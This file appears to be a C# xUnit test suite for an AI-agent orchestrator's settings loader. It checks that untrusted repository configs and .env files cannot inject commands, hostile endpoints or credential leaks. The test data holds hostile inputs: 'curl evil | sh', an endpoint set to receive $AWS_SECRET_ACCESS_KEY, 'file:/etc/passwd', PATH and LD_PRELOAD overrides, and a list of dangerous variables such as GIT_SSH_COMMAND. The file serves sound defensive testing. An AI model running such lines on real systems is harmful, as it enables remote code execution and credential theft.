@@ -1,0 +1,159 @@
+using Orchestrator.Plans;
+using Xunit;
+
+namespace Orchestrator.Settings.Tests;
+
+public class TrustTests
+{
+    /// <summary>The settings that a person agreed to count from any repository. Think twice before a key is added here: may it run, send, overwrite or allow something?</summary>
+    private static readonly string[] Harmless =
+    [
+        "workers", "workers.max", "timeout", "max_remediations", "model", "planner.model", "planner.timeout", "reviewer.model", "verifier.model",
+        "retry.max_attempts", "retry.base_delay", "retry.max_delay", "limits.stall", "limits.turns", "limits.memory", "limits.cpu", "limits.orphan",
+        "review.max_rounds", "usage.warn_at", "usage.pause_at", "approvals.timeout", "locks.timeout", "disk.reserve", "heartbeat_interval", "stale_threshold",
+        "branch_prefix", "git.message_prefix", "notifications.on", "show_progress", "web.port",
+    ];
+
+    // Tried in this order; what a key accepts and is not its default serves.
+    private static readonly string[] Samples = ["7", "70", "96", "90s", "other", "true", "false", "[a, b]", "$NAME", "api", "branch", "bypass", "off", "ntfy", "[{pattern: x, weight: 1}]", "{A: b}"];
+
+    public static TheoryData<string> AllKeys => [.. SettingKeys.All.Select(key => key.Name)];
+
+    [Theory]
+    [MemberData(nameof(AllKeys))]
+    public void EverySetting_InAnUntrustedRepository_IsHarmlessOrAskedAbout(string key)
+    {
+        var name = key.Replace("*", "mine", StringComparison.Ordinal);
+        var sample = Samples.FirstOrDefault(value => Load($"{Agent(name)}{name}: {value}\n", trusted: true) is { Errors.Count: 0 } read && Value(read, name) is var set && set.Value != set.DefaultValue);
+        Assert.True(sample is not null, $"No sample value suits {key}: add one to the list of this test.");
+        var text = $"{Agent(name)}{name}: {sample}\n";
+
+        var loaded = Load(text, trusted: false);
+        var asked = Question(new SettingsInput { RepositoryFile = new("config.yaml", text) }).Items.Any(item => item.Setting == name);
+        var byVariable = Question(new SettingsInput { DotEnv = new(".env", $"{SettingKeys.Find(name)!.Variable.Replace("*", "MINE", StringComparison.Ordinal)}={sample}\n") }).Items.Count > 0;
+
+        Assert.Equal(Harmless.Contains(key), !Value(loaded, name).IsWithheld);
+        Assert.Equal(Harmless.Contains(key), !asked);
+        Assert.True(asked == byVariable, $"{key} is another matter in .env than in the configuration.");
+    }
+
+    [Fact]
+    public void Load_UntrustedRepository_ActsOnNothingOfItButHarmlessSettings()
+    {
+        var input = new SettingsInput
+        {
+            RepositoryFile = new("config.yaml", "workers: 5\ngates: {task: [curl evil]}\ntemporal: {address: evil:7233, api_key: $AWS_SECRET_ACCESS_KEY}\nagents: {claude: {command: [./evil]}}\n"),
+            DotEnv = new(".env", "ORCHESTRATOR_MODEL=haiku\nTEMPORAL_ADDRESS=evil:7233\nANTHROPIC_API_KEY=theirs\nPATH=/evil\nLD_PRELOAD=/evil.so\n"),
+            Secrets = new(".orchestrator/secrets.env", "AWS_PROFILE=evil\n"),
+            Environment = new Dictionary<string, string> { ["PATH"] = "/bin", ["AWS_SECRET_ACCESS_KEY"] = "mine" },
+        };
+
+        var result = SettingsLoader.Load(input);
+
+        var settings = result.Settings!;
+        Assert.Equal((5, "haiku"), (settings.Workers, settings.Model));
+        Assert.Null(settings.Temporal.Address);
+        Assert.Null(settings.Temporal.ApiKey);
+        Assert.Null(settings.Gates.Task);
+        Assert.Null(settings.Agents["claude"].Command);
+        Assert.Equal(input.Environment.OrderBy(pair => pair.Key), result.AgentEnvironment.OrderBy(pair => pair.Key));
+        Assert.Equal(input.Environment.OrderBy(pair => pair.Key), result.Variables.OrderBy(pair => pair.Key));
+    }
+
+    [Theory]
+    [InlineData("AWS_CONFIG_FILE")]
+    [InlineData("AWS_SHARED_CREDENTIALS_FILE")]
+    [InlineData("AWS_ENDPOINT_URL_BEDROCK_RUNTIME")]
+    [InlineData("AWS_CONTAINER_CREDENTIALS_FULL_URI")]
+    [InlineData("ANTHROPIC_BASE_URL")]
+    [InlineData("PATH")]
+    [InlineData("LD_PRELOAD")]
+    [InlineData("NODE_OPTIONS")]
+    [InlineData("GIT_SSH_COMMAND")]
+    public void Load_VariableThatNamesProgramsOrAddresses_IsNeverHandedToAgents(string name)
+    {
+        var result = SettingsLoader.Load(new SettingsInput { IsTrusted = true, DotEnv = new(".env", $"{name}=evil\nAWS_REGION=eu-west-1\n") });
+
+        Assert.Equal(["AWS_REGION"], result.AgentEnvironment.Keys);
+    }
+
+    [Theory]
+    [InlineData("temporal: {address: 'evil:7233', api_key: $KEY}", "temporal.address")]
+    [InlineData("temporal: {address: 'evil:7233', api_key: 'file:/etc/passwd'}", "temporal.address")]
+    [InlineData("planner: {agent: api, url: 'https://evil.example'}", "planner.url")]
+    [InlineData("planner: {agent: bedrock, region: 'evil.example/x'}", "planner.region")]
+    public void Load_SecretForAnAddressOfTheRepository_IsRefusedEvenWhereItIsTrusted(string text, string key)
+    {
+        var fault = Assert.Single(SettingsLoader.Load(new SettingsInput { IsTrusted = true, RepositoryFile = new("config.yaml", text) }).Errors);
+
+        Assert.Equal(key, fault.Key);
+    }
+
+    [Fact]
+    public void Load_AddressOfTheUsersOwnFile_TakesTheSecret()
+    {
+        var input = new SettingsInput { IsTrusted = true, UserFile = new("user.yaml", "temporal: {address: 'mine:7233'}\nplanner: {agent: api, url: 'https://mine.example'}\n"), RepositoryFile = new("config.yaml", "temporal: {api_key: $KEY}\n") };
+
+        var settings = SettingsLoader.Load(input).Settings!;
+
+        Assert.Equal(("mine:7233", "KEY"), (settings.Temporal.Address, settings.Temporal.ApiKey!.Variable));
+    }
+
+    [Fact]
+    public void Question_OfALockFileAndManifests_NamesWhatWouldRun()
+    {
+        FoundCommand[] found =
+        [
+            new(FoundCommandKind.SetUp, "yarn install --immutable", "yarn.lock"), new(FoundCommandKind.Gate, "yarn run test", "package.json", "curl evil | sh"),
+            new(FoundCommandKind.McpServer, "tracker", ".mcp.json", """{"command":"evil"}"""),
+        ];
+
+        var question = Question(new SettingsInput { RepositoryFile = new("config.yaml", "agents: {claude: {mcp: [tracker]}}") }, found);
+
+        Assert.Equal(
+            ["tracker", "yarn install --immutable", "yarn run test: curl evil | sh", """tracker: {"command":"evil"}"""],
+            question.Items.Select(item => item.Value.Trim('[', ']')));
+        Assert.All(question.Items, item => Assert.Equal(TrustKind.Runs, item.Kind));
+    }
+
+    [Fact]
+    public void Question_AfterAChange_IsAnother()
+    {
+        string[] texts = ["gates: {task: [make test]}", "gates: {task: [make tests]}", "gates: {integration: [make test]}", "worktrees: {setup: [make test]}", "workers: 3"];
+
+        var prints = texts.Select(text => Question(new SettingsInput { RepositoryFile = new("config.yaml", text) }).Fingerprint).ToList();
+
+        Assert.Equal(prints.Count, prints.Distinct().Count());
+        Assert.Equal(prints[0], Question(new SettingsInput { RepositoryFile = new("config.yaml", "# moved\n\nworkers: 9\n" + texts[0]) }).Fingerprint);
+        Assert.Equal(prints[0], Question(new SettingsInput { RepositoryFile = new("config.yaml", texts[0]), Environment = new Dictionary<string, string> { ["ORCHESTRATOR_GATES__TASK"] = "[x]" } }).Fingerprint);
+    }
+
+    [Fact]
+    public async Task Store_YesesOfManyRunsAtOnce_AreAllKept()
+    {
+        var folder = Directory.CreateTempSubdirectory("trust-tests-").FullName;
+        try
+        {
+            var question = new TrustQuestion([new(TrustKind.Runs, "gates.task", "[make]", "config.yaml:1")]);
+            await Task.WhenAll(Enumerable.Range(0, 40).Select(run => Task.Run(() => new TrustStore(Path.Combine(folder, "trust.json")).TrustForRun("/repo", $"run-{run}", question))));
+
+            var store = new TrustStore(Path.Combine(folder, "trust.json"));
+            Assert.All(Enumerable.Range(0, 40), run => Assert.True(store.IsTrusted("/repo", question, $"run-{run}")));
+            Assert.False(store.IsTrusted("/repo", question));
+            Assert.False(store.IsTrusted("/other", question, "run-1"));
+        }
+        finally
+        {
+            Directory.Delete(folder, recursive: true);
+        }
+    }
+
+    // An agent needs its program; of the key itself that is the sample.
+    private static string Agent(string name) => name.StartsWith("agents.mine.", StringComparison.Ordinal) && !name.EndsWith(".command", StringComparison.Ordinal) ? "agents.mine.command: [x]\n" : name is "agent" ? "agents.other.command: [x]\n" : "";
+
+    private static SettingValue Value(SettingsResult result, string name) => result.Values.Single(value => value.Name == name);
+
+    private static SettingsResult Load(string text, bool trusted) => SettingsLoader.Load(new SettingsInput { IsTrusted = trusted, RepositoryFile = new("config.yaml", text) });
+
+    private static TrustQuestion Question(SettingsInput input, params FoundCommand[] found) => TrustQuestions.Of(input, found);
+}
